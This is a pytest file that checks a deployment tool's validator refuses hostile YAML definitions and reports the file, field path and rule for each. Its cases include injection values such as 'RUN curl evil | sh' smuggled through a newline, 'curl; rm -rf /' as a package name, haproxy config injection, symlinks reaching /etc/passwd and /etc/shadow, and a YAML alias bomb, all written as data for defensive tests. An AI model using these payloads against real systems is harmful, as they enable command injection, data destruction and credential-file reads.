"""Hostile definitions: each is refused with the file, the field path and the rule, never a traceback.

One valid set (every kind, every field that reaches a generated file set) is written to a file;
each case changes one thing in it (or replaces the file's bytes) and names the problem expected:
the file, the exact path and a fragment of the rule. ``stratos validate`` (the CLI) is run on
every case too: exit code 1, the problem printed, no traceback.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from definition_cases import IMAGE_BUILD, with_value

from stratos import images
from stratos.cli import main
from stratos.errors import DriverError, ValidationError
from stratos.lb import config as lbconfig
from stratos.model import Cartridge, LbCluster
from stratos.validation import load

CARTRIDGE: dict[str, Any] = {
    "kind": "Cartridge",
    "name": "c",
    "display_name": "C",
    "version": "1.0",
    "image": {"build": IMAGE_BUILD},
    "ports": [{"name": "http", "port": 80, "proxy_port": 8080}],
    "health_check": {"http": "/health", "interval": 2, "timeout": 1.5},
    "environment": {"E": "v"},
    "exports": {"X": "{member.hostname}"},
    "deployment_dir": "/srv/app",
    "persistence": {"volumes": [{"name": "d", "mount_path": "/data"}]},
    "limits": {"cpus": 1, "memory": "256m"},
    "scales": True,
}
NETWORK_PARTITION: dict[str, Any] = {
    "kind": "NetworkPartition",
    "name": "local",
    "partitions": [{"name": "p1", "endpoint": "unix:///var/run/docker.sock", "zone": "a", "region": "r"}],
    "network": {"name": "stratos-local", "subnet": "10.10.0.0/24"},
    "openstack": {"admin_cidr": "192.0.2.0/24", "hosts": 2},
}
DEPLOYMENT_POLICY: dict[str, Any] = {
    "kind": "DeploymentPolicy",
    "name": "dp",
    "network_partitions": [{"name": "local", "partitions": [{"name": "p1", "max": 3}]}],
}
AUTOSCALING_POLICY: dict[str, Any] = {
    "kind": "AutoscalingPolicy",
    "name": "ap",
    "thresholds": {"requests_in_flight": 20, "load_average": 70},
    "behaviour": {"evaluation_interval": 5, "tolerance": 0.1},
}
LB_CLUSTER: dict[str, Any] = {
    "kind": "LbCluster",
    "name": "web",
    "network_partition": "local",
    "listeners": [{"proxy_port": 8080, "port": 80}],
    "health_check": {"interval": 2, "fall": 2, "rise": 1},
    "sticky": {"enabled": True, "cookie": "SID"},
    "stats": {"enabled": False, "port": 8404, "bind": "127.0.0.1"},
    "bind_address": "0.0.0.0",
}
APPLICATION: dict[str, Any] = {
    "kind": "Application",
    "name": "a",
    "subscriptions": [
        {
            "alias": "web",
            "cartridge": "c",
            "min": 1,
            "max": 3,
            "deployment_policy": "dp",
            "autoscaling_policy": "ap",
            "lb_cluster": "web",
            "environment": {"MODE": "prod"},
            "artifact": {
                "url": "https://git.example.invalid/a.git",
                "poll_interval": 15,
                "health_path": "/",
                "health_timeout": 30,
            },
        }
    ],
}
DOCS = [CARTRIDGE, NETWORK_PARTITION, DEPLOYMENT_POLICY, AUTOSCALING_POLICY, LB_CLUSTER, APPLICATION]
KIND_INDEX = {doc["kind"]: i for i, doc in enumerate(DOCS)}


def write_set(root: Path, docs: list[dict[str, Any]]) -> Path:
    (root / "files").mkdir(exist_ok=True)
    (root / "files" / "start.sh").write_text('#!/bin/sh\nexec "$@"\n')
    path = root / "set.yml"
    path.write_text(yaml.safe_dump_all(docs, sort_keys=False))
    return path


def at(kind: str, dotted: str, value: Any) -> Callable[[Path], Path]:
    """Set ``dotted`` (``a.b[0].c``) in the document of ``kind`` to ``value``."""

    def mutate(root: Path) -> Path:
        docs = list(DOCS)
        docs[KIND_INDEX[kind]] = with_value(DOCS[KIND_INDEX[kind]], dotted, value)
        return write_set(root, docs)

    return mutate


def raw(data: bytes | str) -> Callable[[Path], Path]:
    def write(root: Path) -> Path:
        path = root / "set.yml"
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        return path

    return write


def symlinked_source(root: Path) -> Path:
    path = at("Cartridge", "image.build.files[0].src", "files/link")(root)
    os.symlink("/etc/passwd", root / "files" / "link")
    return path


def escaping_directory_link(root: Path) -> Path:
    path = at("Cartridge", "image.build.files[0].src", "up/etc/passwd")(root)
    os.symlink("/", root / "up")
    return path


ALIAS_BOMB = """\
a: &a ["x","x","x","x","x","x","x","x","x"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
kind: *h
"""

C, NP, DP, AP, LB, APP = (
    "cartridges/c",
    "network_partitions/local",
    "deployment_policies/dp",
    "autoscaling_policies/ap",
    "lb_clusters/web",
    "applications/a",
)
SUB = f"{APP}.subscriptions[0]"
FINITE = "must be a finite number"


def case_at(case: str, kind: str, dotted: str, value: Any, rule: str, path: str | None = None) -> Case:
    """A case that sets one field: the problem is expected at that field unless ``path`` says where."""
    return (case, at(kind, dotted, value), path or f"{PATHS[kind]}.{dotted}", rule)


PATHS = {
    "Cartridge": C,
    "NetworkPartition": NP,
    "DeploymentPolicy": DP,
    "AutoscalingPolicy": AP,
    "LbCluster": LB,
    "Application": APP,
}
Case = tuple[str, Callable[[Path], Path], str, str]

# (id, make the file, expected path, expected rule fragment)
CASES: list[Case] = [
    # ---- numbers: finite, bounded, never from strings or booleans
    case_at("hc-timeout-inf", "Cartridge", "health_check.timeout", float("inf"), FINITE),
    case_at("hc-interval-nan", "Cartridge", "health_check.interval", float("nan"), FINITE),
    case_at("hc-timeout-huge", "Cartridge", "health_check.timeout", 1e9, "must be <= 600"),
    case_at("hc-retries-huge", "Cartridge", "health_check.retries", 10**6, "must be <= 100"),
    case_at(
        "artifact-health-timeout-inf",
        "Application",
        "subscriptions[0].artifact.health_timeout",
        float("inf"),
        FINITE,
    ),
    case_at(
        "artifact-poll-huge",
        "Application",
        "subscriptions[0].artifact.poll_interval",
        1e12,
        "must be <= 86400",
    ),
    case_at(
        "artifact-keep-huge",
        "Application",
        "subscriptions[0].artifact.keep_releases",
        10**9,
        "must be <= 100",
    ),
    case_at("cpus-inf", "Cartridge", "limits.cpus", float("inf"), FINITE),
    case_at("cpus-huge", "Cartridge", "limits.cpus", 1e6, "must be <= 1024"),
    case_at("memory-zero", "Cartridge", "limits.memory", "0m", "between 6m"),
    case_at("memory-newline", "Cartridge", "limits.memory", "256m\n", "must be a size"),
    case_at("threshold-inf", "AutoscalingPolicy", "thresholds.requests_in_flight", float("inf"), FINITE),
    case_at("threshold-percent-nan", "AutoscalingPolicy", "thresholds.load_average", float("nan"), FINITE),
    case_at(
        "evaluation-interval-inf", "AutoscalingPolicy", "behaviour.evaluation_interval", float("inf"), FINITE
    ),
    case_at(
        "stabilisation-huge", "AutoscalingPolicy", "behaviour.scale_down_stabilisation", 1e10, "<= 86400"
    ),
    case_at("tolerance-nan", "AutoscalingPolicy", "behaviour.tolerance", float("nan"), FINITE),
    case_at("max-step-huge", "AutoscalingPolicy", "behaviour.max_step", 10**7, "<= 1000"),
    case_at(
        "partition-max-huge", "DeploymentPolicy", "network_partitions[0].partitions[0].max", 10**9, "<= 1000"
    ),
    case_at("lb-interval-inf", "LbCluster", "health_check.interval", float("inf"), FINITE),
    case_at("lb-interval-tiny", "LbCluster", "health_check.interval", 1e-9, ">= 0.01"),
    case_at("lb-fall-huge", "LbCluster", "health_check.fall", 10**6, "<= 100"),
    case_at("lb-retries-huge", "LbCluster", "retries", 10**6, "<= 100"),
    case_at("openstack-hosts-huge", "NetworkPartition", "openstack.hosts", 10**6, "<= 100"),
    case_at("min-quoted", "Application", "subscriptions[0].min", "1", "must be a number, not a string"),
    case_at("max-boolean", "Application", "subscriptions[0].max", True, "must be a number, not a boolean"),
    case_at("port-quoted", "Cartridge", "ports[0].port", "80", "must be a number, not a string"),
    case_at("timeout-quoted", "Cartridge", "health_check.timeout", "3", "not a string"),
    case_at("tcp-yes", "Cartridge", "health_check.tcp", "yes", "must be true or false"),
    case_at("scales-one", "Cartridge", "scales", 1, "must be true or false"),
    case_at("sticky-enabled-string", "LbCluster", "sticky.enabled", "true", "must be true or false"),
    case_at(
        "keep-volume-string",
        "Cartridge",
        "persistence.volumes[0].keep_on_termination",
        "no",
        "must be true or false",
    ),
    # ---- values that reach haproxy.cfg
    case_at(
        "hc-http-injects-listen",
        "Cartridge",
        "health_check.http",
        "/h\nlisten pwn\n    bind :9999\n    stats admin if TRUE",
        "must be a URL path",
    ),
    case_at("hc-http-comment", "Cartridge", "health_check.http", "/h #x", "must be a URL path"),
    case_at("hc-http-quote", "Cartridge", "health_check.http", "/h'x", "must be a URL path"),
    case_at(
        "sticky-cookie-injects", "LbCluster", "sticky.cookie", "SID\nlisten pwn", "must be a cookie name"
    ),
    case_at("sticky-cookie-space", "LbCluster", "sticky.cookie", "SID insert", "must be a cookie name"),
    # ---- values that reach a Dockerfile, env or link file, labels
    case_at("version-injects-run", "Cartridge", "version", "1.0\nRUN curl evil | sh", "must be a Docker tag"),
    case_at("version-slash", "Cartridge", "version", "1/2", "must be a Docker tag"),
    case_at(
        "workdir-injects-run",
        "Cartridge",
        "image.build.workdir",
        "/app\nRUN id",
        "control characters (newline)",
    ),
    case_at("workdir-relative", "Cartridge", "image.build.workdir", "app", "absolute path"),
    case_at(
        "build-env-newline",
        "Cartridge",
        "image.build.env",
        {"A": "1\nRUN id"},
        "control characters",
        path=f"{C}.image.build.env.A",
    ),
    case_at(
        "build-env-key",
        "Cartridge",
        "image.build.env",
        {"A B": "1"},
        "variable name",
        path=f"{C}.image.build.env.A B.[key]",
    ),
    case_at(
        "environment-escape",
        "Cartridge",
        "environment",
        {"E": "\x1b[31mred"},
        "control characters (U+001B)",
        path=f"{C}.environment.E",
    ),
    case_at(
        "subscription-env-newline",
        "Application",
        "subscriptions[0].environment",
        {"M": "a\nB=2"},
        "control characters (newline)",
        path=f"{SUB}.environment.M",
    ),
    case_at(
        "subscription-env-key",
        "Application",
        "subscriptions[0].environment",
        {"1X": "a"},
        "variable name",
        path=f"{SUB}.environment.1X.[key]",
    ),
    case_at(
        "exports-newline",
        "Cartridge",
        "exports",
        {"X": "a\nEVIL=1"},
        "control characters",
        path=f"{C}.exports.X",
    ),
    case_at(
        "file-path-newline", "Cartridge", "image.build.files[0].path", "/x\nRUN id", "control characters"
    ),
    case_at(
        "file-path-dir", "Cartridge", "image.build.files[0].path", "/usr/local/bin/", "not ending with '/'"
    ),
    case_at("file-path-dotdot", "Cartridge", "image.build.files[0].path", "/a/../etc/passwd", "'..'"),
    case_at("file-mode", "Cartridge", "image.build.files[0].mode", "0999", "must be octal permission bits"),
    case_at(
        "entrypoint-newline",
        "Cartridge",
        "image.build.entrypoint",
        ["/bin/sh\n"],
        "control characters",
        path=f"{C}.image.build.entrypoint[0]",
    ),
    case_at(
        "package-shell",
        "Cartridge",
        "image.build.packages",
        ["curl; rm -rf /"],
        "Debian package name",
        path=f"{C}.image.build.packages[0]",
    ),
    case_at(
        "package-option",
        "Cartridge",
        "image.build.packages",
        ["-oAPT::x=1"],
        "Debian package name",
        path=f"{C}.image.build.packages[0]",
    ),
    case_at(
        "run-empty",
        "Cartridge",
        "image.build.run",
        ["  "],
        "must not be empty",
        path=f"{C}.image.build.run[0]",
    ),
    case_at(
        "run-escape",
        "Cartridge",
        "image.build.run",
        ["echo \x1b[2J"],
        "control characters",
        path=f"{C}.image.build.run[0]",
    ),
    case_at("display-name-newline", "Cartridge", "display_name", "C\nD", "control characters"),
    case_at("description-nul", "Cartridge", "description", "a\x00b", "control characters (U+0000)"),
    ("name-trailing-newline", at("Cartridge", "name", "c\n"), "cartridges/?.name", "DNS label"),
    case_at("alias-trailing-newline", "Application", "subscriptions[0].alias", "web\n", "DNS label"),
    case_at("zone-space", "NetworkPartition", "partitions[0].zone", "a b", "must be a name"),
    case_at("region-newline", "NetworkPartition", "partitions[0].region", "r\n", "must be a name"),
    case_at(
        "endpoint-newline",
        "NetworkPartition",
        "partitions[0].endpoint",
        "unix:///var/run/docker.sock\n",
        "Docker endpoint",
    ),
    case_at(
        "endpoint-space",
        "NetworkPartition",
        "partitions[0].endpoint",
        "tcp://host:2375 -v",
        "Docker endpoint",
    ),
    case_at("openstack-flavor", "NetworkPartition", "openstack.flavor", "m1 small\n", "must be a name"),
    # ---- IP addresses and networks
    case_at("bind-address-bad", "LbCluster", "bind_address", "999.1.1.1", "IP address"),
    case_at("bind-address-name", "LbCluster", "bind_address", "localhost", "IP address"),
    case_at("stats-bind-injects", "LbCluster", "stats.bind", "127.0.0.1\nlisten x", "IP address"),
    case_at("subnet-integer", "NetworkPartition", "network.subnet", 5, "written as a string"),
    case_at("subnet-no-prefix", "NetworkPartition", "network.subnet", "10.10.0.0", "prefix length"),
    case_at("subnet-loopback", "NetworkPartition", "network.subnet", "127.0.0.0/8", "not loopback"),
    case_at("subnet-tiny", "NetworkPartition", "network.subnet", "10.0.0.0/31", "/8 and /29"),
    case_at("admin-cidr-bad", "NetworkPartition", "openstack.admin_cidr", "0.0.0.0/33", "IP network"),
    case_at("admin-cidr-no-prefix", "NetworkPartition", "openstack.admin_cidr", "10.0.0.0", "prefix length"),
    # ---- image references (distribution/reference grammar)
    case_at(
        "ref-uppercase",
        "Cartridge",
        "image",
        {"ref": "Debian:bookworm"},
        "Docker image reference",
        path=f"{C}.image.ref",
    ),
    case_at(
        "ref-space",
        "Cartridge",
        "image",
        {"ref": "debian:book worm"},
        "Docker image reference",
        path=f"{C}.image.ref",
    ),
    case_at(
        "ref-option",
        "Cartridge",
        "image",
        {"ref": "--privileged"},
        "Docker image reference",
        path=f"{C}.image.ref",
    ),
    case_at(
        "ref-two-tags",
        "Cartridge",
        "image",
        {"ref": "a:b:c"},
        "Docker image reference",
        path=f"{C}.image.ref",
    ),
    case_at(
        "ref-newline",
        "Cartridge",
        "image",
        {"ref": "debian\n"},
        "Docker image reference",
        path=f"{C}.image.ref",
    ),
    case_at("base-bad", "Cartridge", "image.build.base", "debian:-x", "Docker image reference"),
    case_at("tag-bad", "Cartridge", "image.build.tag", "x@sha256:zz", "Docker image reference"),
    # ---- image file sources: inside the definition's directory
    case_at(
        "src-absolute",
        "Cartridge",
        "image.build.files[0].src",
        "/etc/shadow",
        "must stay inside the definition's directory",
    ),
    case_at("src-dotdot", "Cartridge", "image.build.files[0].src", "../../etc/passwd", "no '..'"),
    (
        "src-symlink-out",
        symlinked_source,
        f"{C}.image.build.files[0].src",
        "must stay inside the definition's directory (it resolves to /etc/passwd)",
    ),
    (
        "src-dir-symlink-out",
        escaping_directory_link,
        f"{C}.image.build.files[0].src",
        "must stay inside the definition's directory",
    ),
    case_at("src-missing", "Cartridge", "image.build.files[0].src", "files/nope.sh", "existing regular file"),
    case_at("src-directory", "Cartridge", "image.build.files[0].src", "files", "existing regular file"),
    case_at("mount-path-colon", "Cartridge", "persistence.volumes[0].mount_path", "/data:rw", "':' or ','"),
    # ---- sizes
    case_at(
        "listeners-too-many",
        "LbCluster",
        "listeners",
        [{"proxy_port": 1000 + i, "port": 80} for i in range(65)],
        "at most 64 item(s)",
    ),
    case_at("description-too-long", "Cartridge", "description", "x" * 70000, "at most 65536 characters"),
    # ---- the file itself
    ("alias-bomb", raw(ALIAS_BOMB), "line 2", "aliases are not allowed in definitions"),
    ("alias-small", raw("kind: &k Cartridge\nname: *k\n"), "line 2", "aliases are not allowed"),
    ("merge-key", raw("base: &b {x: 1}\nkind: Cartridge\n<<: {name: c}\n"), "line 3", "merge key"),
    (
        "duplicate-key",
        raw("kind: Cartridge\nname: c\nname: d\nimage: {ref: a}\n"),
        "line 3",
        "has the key 'name' twice (first on line 2)",
    ),
    (
        "duplicate-nested-key",
        raw(
            "kind: LbCluster\nname: w\nnetwork_partition: n\nlisteners:\n  - {proxy_port: 1, port: 2, port: 3}\n"
        ),
        "line 5",
        "has the key 'port' twice",
    ),
    ("empty-file", raw(""), "(file)", "holds no definition"),
    ("comments-only", raw("# nothing here\n---\n...\n"), "(file)", "holds no definition"),
    ("utf16", raw("kind: Cartridge\nname: c\n".encode("utf-16")), "(file)", "must be UTF-8 (it is UTF-16"),
    ("utf16-no-bom", raw("kind: Cartridge\n".encode("utf-16-le")), "(file)", "NUL bytes"),
    (
        "latin1",
        raw("kind: Cartridge\nname: caf\xe9\n".encode("latin-1")),
        "(file)",
        "invalid byte 0xe9 on line 2",
    ),
    (
        "deep-nesting",
        raw("kind: Cartridge\nname: c\nimage: " + "[" * 5000 + "]" * 5000 + "\n"),
        "line 3",
        "nests deeper than 32 levels",
    ),
    (
        "deep-block-nesting",
        raw("kind: Cartridge\n" + "".join("  " * i + f"k{i}:\n" for i in range(40))),
        "line 33",
        "nests deeper than 32 levels",
    ),
    (
        "too-big",
        raw("kind: Cartridge\ndescription: " + "x" * (1 << 20) + "\n"),
        "(file)",
        "must be at most 1048576 bytes",
    ),
    ("kind-list", raw("kind: [Cartridge]\nname: c\n"), "document 0.kind", "must be one of Cartridge"),
    ("kind-mapping", raw("kind: {a: 1}\nname: c\n"), "document 0.kind", "must be one of Cartridge"),
    ("key-unhashable", raw("kind: Cartridge\n? [a, b]\n: 1\n"), "line 2", "not a string or number"),
    (
        "name-binary",
        raw("kind: Cartridge\nname: !!binary Yw==\nimage: {ref: a}\n"),
        "cartridges/?.name",
        "must be a string",
    ),
]


@pytest.mark.parametrize(("make", "path", "rule"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_hostile_definition_is_refused_with_file_path_and_rule(
    tmp_path: Path, make: Callable[[Path], Path], path: str, rule: str, capsys: pytest.CaptureFixture[str]
) -> None:
    file = make(tmp_path)
    with pytest.raises(ValidationError) as caught:
        load([tmp_path])
    found = [(p.file, p.path, p.rule) for p in caught.value.problems]
    assert any(f == str(file) and p == path and rule in r for f, p, r in found), found
    # Every message is bounded, whatever the value (a 1 MiB string, a huge structure).
    assert all(len(str(p)) < 1200 for p in caught.value.problems)

    capsys.readouterr()
    assert main(["validate", str(tmp_path)]) == 1
    err = capsys.readouterr().err
    assert f"{file}: {path}" in err and rule in err
    assert "Traceback" not in err


def test_the_unchanged_set_is_valid(tmp_path: Path) -> None:
    write_set(tmp_path, DOCS)
    ds = load([tmp_path])
    assert set(ds.cartridges) == {"c"} and set(ds.applications) == {"a"}


def test_an_anchor_without_alias_and_a_utf8_bom_are_accepted(tmp_path: Path) -> None:
    text = "\ufeffkind: Cartridge\nname: &n c\nimage: {ref: 'stratos/x:1'}\n"
    (tmp_path / "c.yml").write_bytes(text.encode())
    assert set(load([tmp_path]).cartridges) == {"c"}


def test_a_files_root_setting_allows_sources_from_another_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "start.sh").write_text("#!/bin/sh\n")
    defs = tmp_path / "defs"
    defs.mkdir()
    at("Cartridge", "image.build.files[0].src", str(shared / "start.sh"))(defs)
    with pytest.raises(ValidationError, match="must stay inside the definition's directory"):
        load([defs])
    monkeypatch.setenv("STRATOS_FILES_ROOT", str(shared))
    assert set(load([defs]).cartridges) == {"c"}


# --------------------------------------------------------------------------- the image build refuses nothing the model accepts


# Every definition the image build refuses is refused here first: tests/unit/test_image_rules.py.


def test_a_trailing_backslash_in_run_cannot_continue_into_the_next_instruction(tmp_path: Path) -> None:
    file = at("Cartridge", "image.build.run", ["echo hi \\"])(tmp_path)
    cartridge = Cartridge.model_validate(next(iter(yaml.safe_load_all(file.read_text()))))
    context = images.render_build(images.CartridgeImage.of(cartridge, tmp_path))
    line = next(li for li in context.dockerfile.splitlines() if li.startswith("RUN echo") or "echo hi" in li)
    assert line == 'RUN ["/bin/sh", "-ec", "echo hi \\\\"]'


# --------------------------------------------------------------------------- haproxy.cfg rendering checks again


@pytest.mark.parametrize(
    ("checks", "cookie", "match"),
    [
        ({8080: "/h\nlisten pwn\n    stats admin if TRUE"}, "SID", "health check path of listener 8080"),
        ({}, "SID\nlisten pwn", r"sticky\.cookie"),
    ],
    ids=["check-path", "cookie"],
)
def test_render_config_refuses_a_value_that_would_inject(
    checks: dict[int, str], cookie: str, match: str
) -> None:
    lb = LbCluster.model_validate({k: v for k, v in LB_CLUSTER.items() if k != "kind"})
    # A value that went around the model (model_construct validates nothing).
    sneaky = lb.model_copy(update={"sticky": lb.sticky.model_construct(enabled=True, cookie=cookie)})
    with pytest.raises(DriverError, match=match):
        lbconfig.render_config(sneaky, checks)
